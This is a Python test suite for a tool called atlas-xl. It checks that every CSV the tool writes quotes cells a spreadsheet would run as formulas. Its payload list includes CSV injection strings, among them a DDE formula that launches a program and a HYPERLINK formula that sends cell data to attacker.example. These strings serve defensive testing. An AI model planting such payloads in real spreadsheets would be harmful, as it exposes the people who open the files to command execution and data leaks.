"""Text stays text (issue 22, item 7): every CSV atlas-xl writes neutralises cells a spreadsheet
would run as a formula — OWASP's rule (https://owasp.org/www-community/attacks/CSV_Injection): a
cell starting with = + - @ tab or CR gets a leading single quote; numbers stay numbers.

The payloads are the issue's, planted as platform names, sources and notes of a catalog, as a
pattern name and in a scenario file; each writer runs once through ``atlas_xl_cli.main``.
"""
import csv
import io

import pandas as pd
import pytest

import atlas_xl
import atlas_xl_cli as cli
from atlas_xl import values

PAYLOADS = ("=1+1", "=cmd|'/c calc'!A1", '=HYPERLINK("http://attacker.example/?x="&A2,"click")', "@SUM(1+1)",
            "+2+3", "-2+3", "\tTAB", "\r=1+1")
"""The issue's five, and the other starts OWASP names (-, tab, CR)."""
PLATFORM_PAYLOADS = PAYLOADS[:5]  # names: normalize_key turns '-', tab and CR into '_'


def run(capsys, *argv):
    code = cli.main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


def cells_of(text):
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_inert(text):
    """No cell a spreadsheet would evaluate: each starts with no formula character, or is a plain number."""
    for cell in cells_of(text):
        if cell.startswith(values.FORMULA_STARTS):
            float(cell)  # '-5.3' is a number (raises for anything else)


@pytest.fixture(scope="module")
def hostile_catalog(tmp_path_factory):
    """The built-in catalog with one RunPod H100 offering per payload: the payload as platform,
    source and notes."""
    folder = tmp_path_factory.mktemp("hostile")
    atlas_xl.load_catalog().to_csv(folder)
    offerings = pd.read_csv(folder / "offerings.csv", dtype=str, keep_default_na=False)
    base = offerings[(offerings.platform == "runpod") & (offerings.gpu == "h100_sxm")].iloc[0]
    rows = [base.to_dict() | {"platform": p, "source": p, "notes": p} for p in PLATFORM_PAYLOADS]
    rows.append(base.to_dict() | {"platform": "negative_notes", "notes": "-20 % with a 3-year term"})
    pd.concat([offerings, pd.DataFrame(rows)]).to_csv(folder / "offerings.csv", index=False)
    return folder


def test_the_helper_quotes_formula_text_and_keeps_numbers():
    for payload in PAYLOADS:
        assert values.spreadsheet_text(payload) == "'" + payload
        assert values.from_spreadsheet_text("'" + payload) == payload  # read back as written
    for kept in (-3, -2.5, 0.0, "-3", "+1.5e3", "-.5", "runpod", "'quoted", "", None):
        assert values.spreadsheet_text(kept) == kept
    buffer = io.StringIO()
    values.write_csv(pd.DataFrame({"name": ["=1+1", "ok"], "usd": [-1.5, 2.0], "n": [-3, 4]}), buffer)
    assert buffer.getvalue().splitlines() == ["name,usd,n", "'=1+1,-1.5,-3", "ok,2.0,4"]  # negative numbers unquoted


def test_rank_csv(capsys, hostile_catalog):
    code, out, _ = run(capsys, "rank", "2B", "steady", "llama_70b", "--csv", "--catalog", hostile_catalog)
    assert code == 0
    assert_inert(out)
    platforms = set(pd.read_csv(io.StringIO(out))["platform"])
    assert {"'" + atlas_xl.catalog.normalize_key(p) for p in PLATFORM_PAYLOADS} <= platforms


@pytest.mark.parametrize("payload", PLATFORM_PAYLOADS)
def test_plan_csv(capsys, hostile_catalog, payload):
    code, out, _ = run(capsys, "plan", "2B", "steady", "llama_70b", payload, "--gpu", "h100_sxm", "--csv",
                       "--catalog", hostile_catalog)
    assert code == 0
    assert_inert(out)
    record = {row[0]: row[1] for row in csv.reader(io.StringIO(out))}  # field, value, units
    assert record["platform"] == "'" + atlas_xl.catalog.normalize_key(payload)
    assert float(record["monthly_cost_usd"]) > 0  # numbers stay numbers


def test_catalog_list_csv(capsys, hostile_catalog):
    code, out, _ = run(capsys, "catalog", "list", "offerings", "--csv", "--catalog", hostile_catalog)
    assert code == 0
    assert_inert(out)
    frame = pd.read_csv(io.StringIO(out), keep_default_na=False)
    assert {"'" + p for p in PLATFORM_PAYLOADS} <= set(frame["source"])
    assert "'-20 % with a 3-year term" in set(frame["notes"])
    assert pd.read_csv(io.StringIO(out))["hourly_usd"].dtype.kind == "f"  # numbers stay numbers


def test_forecast_csv(capsys, hostile_catalog):
    code, out, _ = run(capsys, "forecast", "2B", "steady", "llama_70b", "=1+1", "--gpu", "h100_sxm", "--months", "2",
                       "--csv", "--catalog", hostile_catalog)
    assert code == 0
    assert_inert(out)
    assert set(pd.read_csv(io.StringIO(out))["platform"]) == {"'=1+1"}


def test_breakeven_csv(capsys, hostile_catalog):
    code, out, _ = run(capsys, "breakeven", "steady", "llama_70b", "together", "@SUM(1+1)/h100_sxm", "--csv",
                       "--catalog", hostile_catalog)
    assert code == 0
    assert_inert(out)
    assert "'@SUM(1+1)/h100_sxm" in cells_of(out)


def usage_log(path):
    hours = pd.date_range("2026-01-05", periods=24 * 7, freq="h")
    pd.DataFrame({"timestamp": hours.astype(str), "tokens": [1000 + 10 * (h.hour % 12) for h in hours]}).to_csv(
        path, index=False)
    return path


def test_pattern_csv_and_add_to(capsys, tmp_path):
    log = usage_log(tmp_path / "usage.csv")
    code, out, _ = run(capsys, "pattern", log, "--csv")
    assert code == 0
    assert_inert(out)
    folder = tmp_path / "cat"
    code, _, _ = run(capsys, "pattern", log, "--name", "+2+3", "--add-to", folder)
    assert code == 0
    written = (folder / "patterns.csv").read_text()
    assert_inert(written)
    assert "'+2+3" in cells_of(written)
    assert "+2+3" in atlas_xl.load_catalog(folder).keys("patterns")  # the catalog reads its own quote back


def test_sweep_csv(capsys, tmp_path, hostile_catalog):
    scenarios = tmp_path / "scenarios.csv"
    pd.DataFrame([{"tokens_per_day": 2e9, "pattern": "steady", "model": "llama_70b", "platform": p,
                   "gpu": "h100_sxm"} for p in PLATFORM_PAYLOADS]).to_csv(scenarios, index=False)
    out_path = tmp_path / "results.csv"
    code, out, err = run(capsys, "sweep", scenarios, "-o", out_path, "--workers", "1", "--quiet",
                         "--catalog", hostile_catalog)
    assert code == 0, err
    written = out_path.read_text()
    assert_inert(written)
    result = pd.read_csv(out_path, keep_default_na=False)
    assert set(result["platform"]) == {"'" + atlas_xl.catalog.normalize_key(p) for p in PLATFORM_PAYLOADS}
    assert result["monthly_cost_usd"].dtype.kind == "f"


def test_catalog_export_is_inert_and_reads_back_the_same(capsys, tmp_path, hostile_catalog):
    folder = tmp_path / "exported"
    code, _, _ = run(capsys, "catalog", "export", folder, "--catalog", hostile_catalog)
    assert code == 0
    for path in folder.glob("*.csv"):
        assert_inert(path.read_text())
    assert atlas_xl.load_catalog(folder).fingerprint == atlas_xl.load_catalog(hostile_catalog).fingerprint


def test_every_csv_writer_goes_through_the_helper():
    """A new writer that calls pandas' to_csv directly would bypass the quoting."""
    from pathlib import Path
    root = Path(__file__).resolve().parents[1]
    sources = [*(root / "atlas_xl_cli").glob("*.py"), *(root / "atlas_xl").glob("*.py"), *(root / "workbook").glob("*.py"),
               *(root / "udfs").glob("*.py")]
    direct = [f"{path.name}:{number}" for path in sources for number, line in
              enumerate(path.read_text().splitlines(), 1)
              if ".to_csv(" in line and "def to_csv" not in line and "catalog.to_csv(" not in line
              and "return table.to_csv(index=False)  # fingerprint text" not in line and path.name != "values.py"]
    assert direct == []
